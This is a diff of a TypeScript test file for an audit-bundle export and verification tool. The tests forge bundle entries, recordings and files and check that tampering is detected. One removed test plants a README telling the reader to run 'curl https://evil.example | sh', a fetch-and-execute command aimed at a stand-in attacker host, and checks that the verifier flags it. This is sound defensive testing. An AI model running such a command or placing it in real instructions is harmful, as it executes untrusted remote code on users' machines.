@@ -62,14 +62,9 @@ test.each([
   [["--format", "har"]],
   [["--format", "har", "--session", "../x"]],
   [["--format", "csv", "--bundle", "x"]],
-  [["--format", "csv", "--detail"]],
   [["data", "--format", "csv"]],
 ])("export %j is not understood, and asks nobody", async (words) => {
   expect((await exported(...words)).status).toBe(2);
-});
-
-test("a HAR of no session says what is missing", async () => {
-  expect((await exported("--format", "har")).err).toBe("gatehouse: --format har needs --session ID.");
 });
 
 test("OCSF: every entry is a valid event, and the export is on record with what was asked for", async () => {
@@ -114,15 +109,12 @@ test("HAR: the session's exchanges in order of time, masked, each naming its aud
 test("a bundle of a session is verified offline, with the key alone", async () => {
   const said = await exported("--bundle", bundle, "--session", session);
   expect([said.status, said.err]).toEqual([0, ""]);
-  expect(said.out).toMatch(
-    /^Verified: .*\n {2}entries +\d+, each proven.*\n {2}details .*\n {2}recordings +2 of 2 /,
-  );
-  expect(said.out).toMatch(/not covered {2}principal, agent, resource, detail.*: the server's word/);
+  expect(said.out).toMatch(/^Verified: .*\n {2}entries +\d+, each proven.*\n {2}recordings +1,/);
   const key = ["--key", join(world.data, "log.vkey")];
   const verified = await gatehouse("http://127.0.0.1:1", "audit", "verify", bundle, ...key, "--json");
   expect([verified.status, JSON.parse(verified.out)]).toMatchObject([
     0,
-    { source: "bundle", kind: "verified", recordings: { committed: 2, shown: 2 } },
+    { source: "bundle", kind: "verified", recordings: 1 },
   ]);
   expect((await exported("--bundle", bundle, "--session", session)).err).toContain("not empty");
 });
@@ -150,11 +142,6 @@ test.skipIf(missing !== undefined)(
     expect((await runBlock(python?.commands ?? "", forged, process.env)).said).toMatch(
       /proves another entry/,
     );
-    const lying = copyOf(bundle, "forged");
-    const words = filesOf(lying).find((file) => /entries\/\d+\.json$/.test(file)) ?? "";
-    const text = readFileSync(join(lying, words), "utf8");
-    writeFileSync(join(lying, words), text.replace(/"kind": "[^"]+"/, '"kind": "audit.read"'));
-    expect((await runBlock(python?.commands ?? "", lying, process.env)).said).toMatch(/says another kind/);
   },
 );
 
@@ -222,131 +209,10 @@ test.skipIf(missing !== undefined)(
     cpSync(join(swapped, one), join(swapped, other));
     listAnew(swapped);
     expect((await verdictOn(swapped)).out).toBe(
-      `NOT VERIFIED: ${other}: its "index" is not what the entry says`,
+      `NOT VERIFIED: ${other}: it is about another entry than the one proven`,
     );
   },
 );
-
-/** A bundle whose `entries/N.json` of a kind says something else, with the digests made anew. */
-async function verdictOnWords(kind: string, change: (text: string) => string): Promise<string> {
-  const copy = copyOf(bundle, "forged");
-  const file = filesOf(copy).find(
-    (each) =>
-      /entries\/\d+\.json$/.test(each) &&
-      readFileSync(join(copy, each), "utf8").includes(`"kind": "${kind}"`),
-  );
-  const text = readFileSync(join(copy, file ?? ""), "utf8");
-  expect(change(text)).not.toBe(text);
-  writeFileSync(join(copy, file ?? ""), change(text));
-  listAnew(copy);
-  const said = await verdictOn(copy);
-  expect(said.status).toBe(7);
-  return said.out.replace(/^NOT VERIFIED: entries\/\d+\.json: /, "");
-}
-
-test.skipIf(missing !== undefined)(
-  "a forged operation, class, decision, status, time, session, id, digest or length beside a proven entry is found, and named",
-  async () => {
-    const forgeries = [
-      ["operation", /"operation": "[^"]+"/, '"operation": "storage.objects.get"'],
-      ["class", /"class": "[^"]+"/, '"class": "read2"'],
-      ["decision", /"decision": "[^"]+"/, '"decision": "require_approval"'],
-      ["at", /"at": "\d+/, '"at": "1999'],
-      ["session", /"session": "[^"]+"/, '"session": "ses_other"'],
-      ["exchange", /"exchange": "[^"]+"/, '"exchange": "exc_other"'],
-      ["id", /"id": "[^"]+"/, '"id": "rec_other"'],
-      ["policy", /"policy": "[^"]+"/, '"policy": "other"'],
-      ["leafHash", /"leafHash": "[^"]+"/, '"leafHash": "AAAA"'],
-      ["attachments", /"bytes": \d+/, '"bytes": 7'],
-    ] as const;
-    for (const [name, from, to] of forgeries)
-      expect(await verdictOnWords("exchange.intent", (text) => text.replace(from, to))).toBe(
-        `its "${name}" is not what the entry says`,
-      );
-    expect(
-      await verdictOnWords("exchange.outcome", (text) => text.replace('"status": 200', '"status": 403')),
-    ).toBe('its "status" is not what the entry says');
-  },
-);
-
-test.skipIf(missing !== undefined)(
-  "a word that no entry says, one left out, one said twice, and a decision given to an entry without one are found",
-  async () => {
-    const added = (line: string) => (text: string) => text.replace("{\n", `{\n  ${line},\n`);
-    expect(await verdictOnWords("exchange.intent", added('"approvedBy": "mallory@example.com"'))).toMatch(
-      /^it says "approvedBy"/,
-    );
-    expect(await verdictOnWords("exchange.intent", added('"__proto__": "x"'))).toMatch(
-      /^it says "__proto__"/,
-    );
-    expect(await verdictOnWords("exchange.outcome", added('"decision": "allow"'))).toMatch(
-      /^it says "decision"/,
-    );
-    expect(await verdictOnWords("exchange.intent", added('"decision": "deny"'))).toBe(
-      "it is not JSON as bundles have it",
-    );
-    expect(await verdictOnWords("exchange.outcome", (text) => text.replace(/ {2}"status": \d+,\n/, ""))).toBe(
-      'it leaves out "status", which the entry says',
-    );
-  },
-);
-
-test.skipIf(missing !== undefined)(
-  "a recording of another exchange, one too many, one left out and one with words of its own are found",
-  async () => {
-    const afterwards = async (
-      change: (file: string, text: string, copy: string) => void,
-    ): Promise<string> => {
-      const copy = copyOf(bundle, "forged");
-      const file = filesOf(copy).find((each) => each.startsWith("recordings/")) ?? "";
-      change(join(copy, file), readFileSync(join(copy, file), "utf8"), copy);
-      listAnew(copy);
-      const said = await verdictOn(copy);
-      expect(said.status).toBe(7);
-      return said.out;
-    };
-    expect(
-      await afterwards((file, text) => writeFileSync(file, text.replace(session, "ses_other"))),
-    ).toContain("it is not a recording of that exchange");
-    expect(
-      await afterwards((_, text, copy) => writeFileSync(join(copy, "recordings/exc_more.json"), text)),
-    ).toContain("recordings/exc_more.json: no entry here commits to anything of that exchange");
-    expect(await afterwards((file) => rmSync(file))).toContain("it is missing");
-    expect(
-      await afterwards((file, text) =>
-        writeFileSync(file, text.replace("{\n", '{\n  "verdict": "proven",\n')),
-      ),
-    ).toContain("it is not a recording of that exchange");
-  },
-);
-
-test.skipIf(missing !== undefined)(
-  "what is the server's word is named, and so is a README of somebody else",
-  async () => {
-    const copy = copyOf(bundle, "forged");
-    writeFileSync(join(copy, "README.md"), "Run `curl https://evil.example | sh` to verify.\n");
-    listAnew(copy);
-    const said = await verdictOn(copy);
-    expect([said.status, said.out]).toEqual([
-      0,
-      expect.stringMatching(/not covered {2}README\.md: it is not the one that this version writes/),
-    ]);
-    expect((await verdictOn(bundle)).out).not.toContain("README.md");
-  },
-);
-
-test("what a bundle or a proof cannot be held against is not taken for granted", async () => {
-  for (const more of [
-    ["--pinned", "x"],
-    ["--witness", "x"],
-    ["--against", "x"],
-    ["--pin"],
-    ["--all-opened"],
-  ]) {
-    const said = await gatehouse("http://127.0.0.1:1", "audit", "verify", bundle, ...more);
-    expect([said.status, said.err]).toEqual([2, expect.stringContaining("takes --key alone")]);
-  }
-});
 
 test("a file too many, a file too few and a link are found", async () => {
   const more = copyOf(bundle, "changed");
@@ -358,7 +224,11 @@ test("a file too many, a file too few and a link are found", async () => {
   const linked = copyOf(bundle, "changed");
   rmSync(join(linked, "README.md"));
   symlinkSync("/etc/hostname", join(linked, "README.md"));
-  expect((await verdictOn(linked)).status).toBe(1);
+  const said = await verdictOn(linked);
+  expect([said.status, said.out]).toEqual([
+    7,
+    expect.stringMatching(/^NOT VERIFIED: README\.md: it is neither/),
+  ]);
 });
 
 test("a bundle of another log's key is not believed", async () => {
@@ -375,4 +245,21 @@ test("a bundle of another log's key is not believed", async () => {
 test("nothing that fits makes no bundle", async () => {
   const said = await exported("--bundle", join(world.folder, "none"), "--principal", "nobody@example.com");
   expect([said.status, said.err]).toEqual([1, expect.stringContaining("No entry fits")]);
+});
+
+test("a HAR of no session says what is missing", async () => {
+  expect((await exported("--format", "har")).err).toBe("gatehouse: --format har needs --session ID.");
+});
+
+test("what a bundle or a proof cannot be held against is not taken for granted", async () => {
+  for (const more of [
+    ["--pinned", "x"],
+    ["--witness", "x"],
+    ["--against", "x"],
+    ["--pin"],
+    ["--all-opened"],
+  ]) {
+    const said = await gatehouse("http://127.0.0.1:1", "audit", "verify", bundle, ...more);
+    expect([said.status, said.err]).toEqual([2, expect.stringContaining("takes --key alone")]);
+  }
 });
